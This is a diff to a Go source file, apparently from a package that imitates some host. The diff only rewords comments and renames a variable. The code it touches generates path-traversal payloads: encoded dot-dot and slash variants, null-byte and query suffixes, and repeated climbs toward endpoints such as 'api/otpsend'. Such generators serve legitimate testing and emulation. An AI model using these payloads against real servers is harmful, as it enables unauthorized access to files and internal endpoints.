@@ -5,9 +5,8 @@ import (
 	"strings"
 )
 
-// Ways to write two dots, and to write a slash, for one decoder or another.
-// Only some of them work on the host that this package imitates; the others are
-// what works elsewhere.
+// Encodings of two dots and of a slash, for different decoders. Only some of them work on
+// the host that this package imitates.
 var (
 	dotDots = []string{
 		"..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", ".%252E", "%25252e%25252e", "%c0%ae%c0%ae", "%e0%80%ae.",
@@ -19,8 +18,8 @@ var (
 	}
 )
 
-// Climbs lists what a client may append to a path, behind a slash, to climb out of
-// as many folders as levels says and on to the target, like "api/otpsend".
+// Climbs lists texts that a client may append to a path that ends in a slash, to leave that
+// many levels of folders and reach the target, like "api/otpsend".
 func Climbs(levels int, target string) []string {
 	var list []string
 	for _, dots := range dotDots {
@@ -29,14 +28,14 @@ func Climbs(levels int, target string) []string {
 			list = append(list, up+target, up+strings.ReplaceAll(target, "/", slash))
 		}
 	}
-	// What may stand before and behind a climb.
+	// Texts before and after the climb.
 	for _, up := range []string{"../", "..%5C", "%252e%252e/", "%252e%252e%5C"} {
 		whole := strings.Repeat(up, levels) + target
 		for _, before := range []string{"x%5C..%5C", "x/../", "%20", "%0A", "x%3F", "x%23", "%5C", "%2F", ".%5C", "%252e/"} {
 			list = append(list, before+whole)
 		}
-		for _, behind := range []string{"/", "%5C", "%20", "%0A", "%3F", "%23", "%3Fx=1", "?x=1", "?", ";x", "%00", "/.", "%2F"} {
-			list = append(list, whole+behind)
+		for _, after := range []string{"/", "%5C", "%20", "%0A", "%3F", "%23", "%3Fx=1", "?x=1", "?", ";x", "%00", "/.", "%2F"} {
+			list = append(list, whole+after)
 		}
 		list = append(list, strings.Repeat(up, levels)+strings.ToUpper(target), strings.Repeat(up, levels+3)+target)
 	}
